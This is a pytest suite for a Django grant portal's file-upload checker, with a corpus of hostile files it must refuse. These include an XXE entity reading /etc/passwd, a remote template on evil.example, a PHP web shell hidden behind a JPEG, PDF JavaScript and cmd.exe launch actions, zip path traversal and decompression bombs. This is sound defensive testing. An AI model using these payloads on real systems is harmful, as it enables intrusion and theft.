"""Which files are accepted, and a corpus of those that must not be."""

import io
import random
import zipfile

import pytest
from django.utils.translation import override

from grants.questionnaires.file_check import FileRefused, check_file
from grants.questionnaires.file_kinds import FORMATS

from . import files
from .files import ADOC, ASICE, MANIFEST, ODT, SHEETS, SIGNATURE, WHOLE, WORDS, package, types

HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'
REMOTE = (
    b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/x.dotm" TargetMode="External"/>'
)
ZIP = package(("a.txt", b"a"))
EXE = b"MZ\x90\x00" + b"\x00" * 60


def check(name, content, mime="", formats=tuple(FORMATS), max_mb=1):
    with override("en"):
        return check_file(io.BytesIO(content), name=name, declared_mime=mime, formats=formats, max_mb=max_mb)


def noise(length):
    """Text that hardly packs."""
    return random.Random(1).randbytes(length).hex()[:length].encode()


def link(name):
    part = zipfile.ZipInfo(name)
    part.external_attr = 0o120777 << 16
    return part


def locked(content):
    """The same package with its first part marked as encrypted, in both places that say so."""
    at = content.rfind(b"PK\x01\x02")
    marked = bytearray(content)
    marked[6] |= 1
    marked[at + 8] |= 1
    first = content.find(b"PK\x01\x02")
    marked[first + 8] |= 1
    return bytes(marked)


def twice():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as zipped:
        zipped.writestr(*types(WORDS))
        zipped.writestr("word/document.xml", b"<a/>")
        with pytest.warns(UserWarning, match="Duplicate name"):
            zipped.writestr("word/document.xml", b"<b/>")
    return made.getvalue()


@pytest.mark.parametrize("kind", WHOLE)
def test_whole_file_of_each_kind_is_accepted(kind):
    make, mime = WHOLE[kind]
    content = make()
    facts = check(f"Sutartis.{kind}", content, mime)
    assert (facts.name, facts.size, facts.mime) == (f"Sutartis.{kind}", len(content), FORMATS[kind].mime)
    assert len(facts.sha256) == 64


@pytest.mark.parametrize("kind", WHOLE)
@pytest.mark.parametrize("mime", ["", "application/octet-stream", "binary/octet-stream"])
def test_browser_that_does_not_know_the_kind_leaves_it_to_the_content(kind, mime):
    assert check(f"a.{kind}", WHOLE[kind][0](), mime).mime == FORMATS[kind].mime


@pytest.mark.parametrize("kind", WHOLE)
@pytest.mark.parametrize("mime", ["text/html", "image/svg+xml", "application/x-msdownload", "text/plain"])
def test_name_and_stated_kind_must_agree(kind, mime):
    with pytest.raises(FileRefused, match="do not agree"):
        check(f"a.{kind}", WHOLE[kind][0](), mime)


@pytest.mark.parametrize("name", WHOLE)
@pytest.mark.parametrize("content", WHOLE)
def test_content_must_be_what_the_name_says(name, content):
    if name == content or (name, content) == ("adoc", "asice"):
        return  # ADOC-V2.0 is an ASiC-E container
    with pytest.raises(FileRefused):
        check(f"a.{name}", WHOLE[content][0]())


@pytest.mark.parametrize("name", ["A.PDF", "a.Pdf", "foto.JPEG", "foto.jpeg"])
def test_ending_in_any_case(name):
    content = files.pdf() if name.lower().endswith("pdf") else files.jpg()
    assert check(name, content).name == name


@pytest.mark.parametrize(
    "name",
    [
        "a.exe", "a", "a.", ".pdf.", "a.pdf.exe", "a.svg", "a.html", "a.htm", "a.xhtml", "a.js", "a.zip", "a.docm",
        "a.xlsm", "a.doc", "a.xls", "a.rtf", "a.gif", "a.webp", "a.tiff", "a.pdf\x00.exe", "a.pdf/.exe", "a.php",
        "a.phtml", "a.pdf .exe", "a.scr", "a.lnk", "a.url", "a.iso", "a.7z", "a.pdfx", "pdf", "", "/", "..",
        "a.p\u202edf",
    ],
)  # fmt: skip
def test_ending_that_was_not_asked_for(name):
    if name == "a.p\u202edf":
        assert check(name, files.pdf()).name == "a.pdf"  # the mark that turns text around is gone, the rest is honest
        return
    with pytest.raises(FileRefused, match=r"not accepted here. Accepted: pdf, png, jpg, jpeg, docx"):
        check(name, files.pdf())


def test_only_the_kinds_of_the_question_are_accepted():
    with pytest.raises(FileRefused, match=r"Accepted: pdf, adoc\."):
        check("a.docx", files.docx(), formats=["pdf", "adoc"])


HOSTILE = {
    "empty": ("a.pdf", b"", "is empty"),
    "html as pdf": ("a.pdf", HTML, "not PDF"),
    "svg as png": ("a.png", SVG, "not PNG"),
    "exe as pdf": ("a.pdf", EXE, "not PDF"),
    "zip as pdf": ("a.pdf", ZIP, "not PDF"),
    "pdf after a space": ("a.pdf", b" " + files.pdf(), "not PDF"),
    "pdf after html": ("a.pdf", HTML + files.pdf(), "not PDF"),
    "pdf of no version": ("a.pdf", files.pdf(head=b"%PDF-\n"), "not PDF"),
    "pdf cut off": ("a.pdf", files.pdf()[:-12], "cut off"),
    "pdf head alone": ("a.pdf", b"%PDF-1.7", "cut off"),
    "pdf without its table": ("a.pdf", files.pdf(tail=b"%%EOF"), "cut off"),
    "pdf and zip": ("a.pdf", files.pdf() + ZIP, "two kinds"),
    "pdf and html behind": ("a.pdf", files.pdf() + HTML, "two kinds"),
    "pdf and html in front": ("a.pdf", files.pdf(body=HTML), "two kinds"),
    "pdf with script": ("a.pdf", files.pdf(b"<</S /JavaScript /JS (app.alert(1))>>"), "a script"),
    "pdf with short script": ("a.pdf", files.pdf(b"<</S/JavaScript/JS(x)>>"), "a script"),
    "pdf that starts a program": ("a.pdf", files.pdf(b"<</S /Launch /F (cmd.exe)>>"), "a script"),
    "pdf with script in disguise": ("a.pdf", files.pdf(b"<</S /J#61vaScr#69pt /JS (x)>>"), "a script"),
    "pdf with media": ("a.pdf", files.pdf(b"<</Subtype /RichMedia>>"), "a script"),
    "pdf with dynamic form": ("a.pdf", files.pdf(b"<</XFA 5 0 R>>"), "a script"),
    "pdf with script over a seam": ("a.pdf", files.pdf(b"x" * (65_536 - 14) + b"/JavaScript "), "a script"),
    "png head alone": ("a.png", b"\x89PNG\r\n\x1a\n", "not PNG"),
    "png cut off": ("a.png", files.png()[:-6], "damaged"),
    "png and zip": ("a.png", files.png(after=ZIP), "two kinds"),
    "png and html": ("a.png", files.png(after=HTML), "two kinds"),
    "png and program": ("a.png", files.png(after=EXE), "two kinds"),
    "png with endless chunk": ("a.png", files.png()[:33] + b"\xff\xff\xff\xffIDAT", "damaged"),
    "png of no size": ("a.png", files.png(0, 0), "no size"),
    "png bomb": ("a.png", files.png(100_000, 100_000), "too large: 100000 × 100000"),
    "gif as png": ("a.png", b"GIF89a" + b"\x00" * 30, "not PNG"),
    "jpg head alone": ("a.jpg", b"\xff\xd8\xff", "damaged"),
    "jpg without frame": ("a.jpg", b"\xff\xd8\xff\xda\x00\x02\xff\xd9", "damaged"),
    "jpg cut off": ("a.jpg", files.jpg()[:-3], "damaged"),
    "jpg of rubbish": ("a.jpg", b"\xff\xd8\xff" + b"\x01" * 50, "damaged"),
    "jpg of short segment": ("a.jpg", b"\xff\xd8\xff\xe0\x00\x00" + b"\x00" * 20, "damaged"),
    "jpg and zip": ("a.jpg", files.jpg(after=ZIP), "two kinds"),
    "jpg and page": ("a.jpg", files.jpg(after=b"<?php system($_GET[0]);"), "two kinds"),
    "jpg with page in a comment": ("a.jpg", files.jpg(comment=b"<script>alert(1)</script>"), "two kinds"),
    "jpg bomb": ("a.jpg", files.jpg(65_000, 65_000), "too large: 65000 × 65000"),
    "jpg of no size": ("a.jpg", files.jpg(0, 5), "no size"),
    "zip as docx": ("a.docx", ZIP, "not what its name says"),
    "xlsx as docx": ("a.docx", files.xlsx(), "not what its name says"),
    "docx cut off": ("a.docx", files.docx()[:-30], "cut off"),
    "docx head alone": ("a.docx", b"PK\x03\x04", "cut off"),
    "docx after a page": ("a.docx", HTML + files.docx(), "not what its name says"),
    "docx with macro": ("a.docx", files.docx(("word/vbaProject.bin", b"x")), "macros"),
    "docx with macro in capitals": ("a.docx", files.docx(("word/VBAPROJECT.BIN", b"x")), "macros"),
    "docx with activex": ("a.docx", files.docx(("word/activeX/activeX1.xml", b"<a/>")), "macros"),
    "docx with ole": ("a.docx", files.docx(("word/embeddings/oleObject1.bin", b"x")), "macros"),
    "docm as docx": (
        "a.docx",
        package(("[Content_Types].xml", b'<x ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')),
        "macros",
    ),
    "docx with entities": ("a.docx", files.docx(("word/footnotes.xml", XXE)), "declarations"),
    "docx with laughs": ("a.docx", files.docx(("docProps/core.xml", LAUGHS)), "declarations"),
    "docx with entities in utf-16": (
        "a.docx",
        files.docx(("word/a.xml", XXE.decode().encode("utf-16"))),
        "declarations",
    ),
    "docx with entities over a seam": (
        "a.docx",
        files.docx(("word/a.xml", b" " * 65_530 + b"<!ENTITY")),
        "declarations",
    ),
    "docx with large relations": ("a.docx", files.docx(("word/_rels/a.rels", noise(6_000_000))), "once unpacked"),
    "docx with remote template": ("a.docx", files.docx(("word/_rels/settings.xml.rels", REMOTE)), "from elsewhere"),
    "docx with way up": ("a.docx", files.docx(("../../etc/cron.d/x", b"x")), "dangerous names"),
    "docx with way up in the middle": ("a.docx", files.docx(("word/../../x", b"x")), "dangerous names"),
    "docx with backslashes": ("a.docx", files.docx(("..\\..\\x", b"x")), "dangerous names"),
    "docx from the root": ("a.docx", files.docx(("/etc/passwd", b"x")), "dangerous names"),
    "docx from a drive": ("a.docx", files.docx(("C:\\x", b"x")), "dangerous names"),
    "docx with link": ("a.docx", files.docx((link("word/media/a.png"), b"/etc/passwd")), "links to other files"),
    "docx with program": ("a.docx", files.docx(("word/media/run.exe", EXE)), "a program"),
    "docx with page": ("a.docx", files.docx(("word/media/a.HTML", HTML)), "a program"),
    "docx with svg": ("a.docx", files.docx(("word/media/a.svg", SVG)), "a program"),
    "docx with script": ("a.docx", files.docx(("word/a.js", b"x")), "a program"),
    "docx with two parts of a name": ("a.docx", twice, "two parts"),
    "docx with password": ("a.docx", lambda: locked(files.docx()), "locked"),
    "docx bomb": ("a.docx", files.docx(("word/media/a.bin", b"\x00" * 5_000_000)), "once unpacked"),
    "docx of many parts": ("a.docx", lambda: files.docx(*((f"word/{n}", b"") for n in range(2_001))), "once unpacked"),
    "docx with damaged part": ("a.docx", files.docx().replace(b"<w:", b"<x:"), None),
    "xlsx with macro sheet": ("a.xlsx", files.xlsx(("xl/macrosheets/sheet1.xml", b"<a/>")), "macros"),
    "xlsm as xlsx": ("a.xlsx", files.xlsx(("xl/vbaProject.bin", b"x")), "macros"),
    "odt with basic": ("a.odt", files.odt(("Basic/Standard/Module1.xml", b"<a/>")), "macros"),
    "odt with scripts": ("a.odt", files.odt(("Scripts/python/x.py", b"x")), "macros"),
    "odt with entities": ("a.odt", files.odt(("styles.xml", XXE)), "declarations"),
    "odt without manifest": ("a.odt", package(("mimetype", ODT.encode())), "not what its name says"),
    "odt of long kind": ("a.odt", package(("mimetype", ODT.encode() + b" " * 300), MANIFEST), "once unpacked"),
    "adoc without signature": ("a.adoc", files.marked(ADOC), "no signature"),
    "adoc without manifest": ("a.adoc", package(("mimetype", ADOC.encode()), SIGNATURE), "not what its name says"),
    "adoc with program": ("a.adoc", files.adoc(("saskaita.exe", EXE)), "a program"),
    "adoc with page": ("a.adoc", files.adoc(("saskaita.html", HTML)), "a program"),
    "adoc with entities": ("a.adoc", files.adoc(("META-INF/signatures1.xml", XXE)), "declarations"),
    "adoc with macro": ("a.adoc", files.adoc(("word/vbaProject.bin", b"x")), "macros"),
    "asice of another kind": ("a.asice", files.marked(ADOC, SIGNATURE), "not what its name says"),
    "asice without signature": ("a.asice", files.marked(ASICE), "no signature"),
    "zip as asice": ("a.asice", ZIP, "not what its name says"),
}


@pytest.mark.parametrize("case", [name for name, row in HOSTILE.items() if row[2]])
def test_hostile_file_is_refused_with_a_sentence(case):
    name, content, sentence = HOSTILE[case]
    with pytest.raises(FileRefused, match=sentence):
        check(name, content() if callable(content) else content, max_mb=10)


@pytest.mark.parametrize("kind", ["docx", "xlsx", "odt", "ods", "adoc", "asice", "png", "jpg", "pdf"])
def test_damage_anywhere_is_refused_or_harmless_but_never_an_error(kind):
    content = WHOLE[kind][0]()
    step = max(1, len(content) // 40)
    for at in range(0, len(content), step):
        damaged = content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]
        try:
            check(f"a.{kind}", damaged)
        except FileRefused as refusal:
            assert str(refusal)  # noqa: PT017 - either outcome is right, silence is not


@pytest.mark.parametrize("kind", ["docx", "odt", "adoc", "png", "jpg", "pdf"])
def test_file_cut_off_anywhere_is_refused(kind):
    content = WHOLE[kind][0]()
    for length in range(1, len(content) - 8, max(1, len(content) // 30)):
        with pytest.raises(FileRefused):
            check(f"a.{kind}", content[:length])


@pytest.mark.parametrize(
    ("size", "sentence"),
    [
        (1_048_577, "File too large: 1.000001 MB, limit 1 MB."),
        (1_070_000, "File too large: 1.02 MB, limit 1 MB."),
        (14 * 1_048_576, "File too large: 14.0 MB, limit 1 MB."),
    ],
)
def test_file_above_its_limit_says_both_sizes(size, sentence):
    with pytest.raises(FileRefused) as refused:
        check("a.pdf", files.pdf(b"x" * (size - len(files.pdf(b"")))))
    assert str(refused.value) == sentence


def test_file_at_its_limit():
    content = files.pdf(b"x" * (1_048_576 - len(files.pdf(b""))))
    assert check("a.pdf", content).size == 1_048_576


def test_macro_free_relations_are_fine():
    rels = b'<Relationship Type="http://x/hyperlink" Target="https://biblioteka.lt" TargetMode="External"/>'
    assert check("a.docx", files.docx(("word/_rels/document.xml.rels", rels))).mime == WORDS
    assert check("a.xlsx", files.xlsx()).mime == SHEETS
